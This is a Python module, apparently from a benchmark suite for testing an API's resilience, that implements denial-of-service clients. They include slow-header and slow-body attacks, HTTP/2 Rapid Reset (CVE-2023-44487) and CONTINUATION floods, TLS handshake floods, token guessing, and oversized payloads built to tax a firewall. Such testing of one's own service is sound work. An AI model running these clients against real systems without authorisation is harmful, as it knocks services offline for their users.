"""What one client of each attack does, until its connection ends."""

from __future__ import annotations

import asyncio
import functools
import itertools
import json
from collections.abc import Awaitable, Callable, Iterable
from typing import TYPE_CHECKING, Any

from h2.connection import H2Connection

if TYPE_CHECKING:
    from benchmarks.attacks import Attack

Client = Callable[[Any, int], Awaitable[None]]
HEAD = "{} HTTP/1.1\r\nHost: api.example.com\r\n"
SLOW = 1.0  # seconds between two bytes
STREAMS = 1000  # requests that a client begins and resets in one part
PARTS = 20  # for one connection
SEARCH = "GET /api/v1/opportunities?limit=25&include=total&q="
LARGE = json.dumps({"title": "x" * 2**20})[: 2**20 - 2] + '"}'
BATCH, FILE = f"[{' ' * (2**20 - 2)}]", f"[{' ' * (5 * 2**20 - 2)}]"
# As many fields as the firewall inspects, in less than 4,000 bytes: longer bodies have fewer turns.
COSTLY = json.dumps({f"field{n}": "select a from b " * 4 for n in range(50)})
COOKIES = "; ".join(f"cookie{n}={'a' * 60}" for n in range(50))
numbers = itertools.count(1)


async def _trickle(attack: Attack, number: int, start: str, drop: bytes) -> None:
    """Send the beginning of a request, and then a little every second."""
    reader, writer = await attack.connect(number)
    try:
        writer.write(start.encode())
        while not reader.at_eof():
            await asyncio.sleep(SLOW)
            writer.write(drop)
            await writer.drain()
    finally:
        writer.transport.abort()


async def slow_head(attack: Attack, number: int) -> None:
    """Send headers that never end."""
    await _trickle(attack, number, HEAD.format("GET /api/v1/health"), b"X-A: b\r\n")


async def slow_body(attack: Attack, number: int) -> None:
    """Send a body that never ends, without a token."""
    start = HEAD.format("POST /api/v1/opportunities") + "Content-Length: 9000\r\n\r\n{"
    await _trickle(attack, number, start, b" ")


async def slow_body_with_token(attack: Attack, number: int) -> None:
    """Send a body that never ends, with a token that looks real."""
    start = HEAD.format("POST /api/v1/opportunities") + "Content-Length: 9000\r\n"
    token = f"x.y.{next(numbers):086}"
    await _trickle(attack, number, f"{start}Authorization: Bearer {token}\r\n\r\n{{", b" ")


async def slow_reader(attack: Attack, number: int) -> None:
    """Read a long response, some bytes per second."""
    reader, writer = await attack.connect(number, buffer=4096)
    try:
        writer.write((HEAD.format("GET /api/v1/openapi.json") + "\r\n").encode())
        while await reader.read(64):  # noqa: ASYNC110 - the pause is what makes it slow
            await asyncio.sleep(SLOW)
    finally:
        writer.transport.abort()


@functools.cache
def resets() -> list[bytes]:
    """Return what opens a connection and resets requests, and what resets further ones."""
    wire = H2Connection()
    wire.initiate_connection()
    path = [(":scheme", "https"), (":authority", "api.example.com"), (":path", "/api/v1/health")]
    parts = []
    for number in range(PARTS):
        for stream in range(2 * STREAMS * number + 1, 2 * STREAMS * (number + 1), 2):
            wire.send_headers(stream, [(":method", "GET"), *path], end_stream=True)
            wire.reset_stream(stream)
        parts.append(wire.data_to_send())
    return parts


async def rapid_reset(attack: Attack, number: int) -> None:
    """Begin and reset requests over HTTP/2 (CVE-2023-44487)."""
    await _send(attack, number, resets(), patience=1)


async def continuation(attack: Attack, number: int) -> None:
    """Send headers over HTTP/2 that never end (CVE-2024-27316)."""
    wire = H2Connection()
    wire.initiate_connection()
    fields = b"".join(b"\x00\x04x-%02d\x7f\x00" % n + b"v" * 127 for n in range(100))
    start = wire.data_to_send() + _frame(1, fields)
    await _send(attack, number, itertools.chain([start], itertools.repeat(_frame(9, fields), 2000)))


def _frame(kind: int, payload: bytes) -> bytes:
    """Return an HTTP/2 frame of stream 1 that does not end the headers."""
    return len(payload).to_bytes(3, "big") + bytes([kind, 0]) + (1).to_bytes(4, "big") + payload


async def _send(attack: Attack, number: int, parts: Iterable[bytes], patience: float = 15) -> None:
    """Send parts over HTTP/2 and drop what arrives, until nginx closes the connection.

    After the last part, wait at most ``patience`` seconds for that.
    """
    reader, writer = await attack.connect(number, "h2")

    async def drop() -> None:
        while await reader.read(65536):
            pass

    dropping = asyncio.create_task(drop())
    try:
        for part in itertools.takewhile(lambda _: not dropping.done(), parts):
            writer.write(part)
            await writer.drain()
            attack.counts["parts"] += 1
        await asyncio.wait_for(dropping, patience)
        attack.counts["ended"] += 1
    except TimeoutError:
        attack.counts["kept"] += 1
    finally:
        dropping.cancel()
        await asyncio.gather(dropping, return_exceptions=True)
        writer.transport.abort()


async def handshake(attack: Attack, number: int) -> None:
    """Make TLS handshakes, and send no request."""
    while True:
        _, writer = await attack.connect(number)
        writer.transport.abort()


async def page(attack: Attack, number: int) -> None:
    """Request a public page as fast as possible."""
    await _ask(attack, number, "GET /api/v1/health")


async def preflight(attack: Attack, number: int) -> None:
    """Ask as fast as possible what a browser asks before a request."""
    fields = "Origin: http://localhost:3000\r\nAccess-Control-Request-Method: POST\r\n"
    await _ask(attack, number, "OPTIONS /api/v1/opportunities", fields)


async def guess(attack: Attack, number: int) -> None:
    """Try tokens, each of them once."""
    while True:
        fields = f"Authorization: Bearer x.y.{next(numbers):086}\r\nConnection: close\r\n"
        await _ask(attack, number, "GET /api/v1/opportunities?limit=1", fields)


async def search(attack: Attack, number: int) -> None:
    """Search through all opportunities of a user with very many."""
    await _ask(attack, number, f"{SEARCH}nowhere", f"Authorization: Bearer {attack.token}\r\n")


async def large_body(attack: Attack, number: int) -> None:
    """Send the largest body that is allowed."""
    await _post(attack, number, "/api/v1/opportunities", LARGE)


async def batch(attack: Attack, number: int) -> None:
    """Send the largest batch, which has no operations."""
    await _post(attack, number, "/api/v1/opportunities/batch", BATCH)


async def file(attack: Attack, number: int) -> None:
    """Send the largest file to import, which is empty."""
    await _post(attack, number, "/api/v1/opportunities/import", FILE)


async def costly_body(attack: Attack, number: int) -> None:
    """Send fields that a firewall needs long for."""
    await _post(attack, number, "/api/v1/opportunities", COSTLY)


async def cookies(attack: Attack, number: int) -> None:
    """Send as many cookies as a firewall inspects."""
    fields = f"Authorization: Bearer {attack.token}\r\nCookie: {COOKIES}\r\n"
    await _ask(attack, number, "GET /api/v1/me", fields)


async def _post(attack: Attack, number: int, path: str, body: str) -> None:
    fields = f"Authorization: Bearer {attack.token}\r\nContent-Type: application/json\r\n"
    fields += f"Content-Length: {len(body)}\r\n"
    await _ask(attack, number, f"POST {path}", fields, body)


async def _ask(attack: Attack, number: int, line: str, fields: str = "", body: str = "") -> None:
    """Send one request after another on a connection, and count the statuses."""
    reader, writer = await attack.connect(number)
    message = f"{HEAD.format(line)}{fields}\r\n{body}".encode()
    try:
        while not reader.at_eof():
            writer.write(message)
            await writer.drain()
            head = (await reader.readuntil(b"\r\n\r\n")).lower()
            length = head.partition(b"content-length:")[2].split(b"\r", 1)[0]
            await reader.readexactly(int(length or 0))
            attack.counts[head[9:12].decode()] += 1
    finally:
        writer.transport.abort()
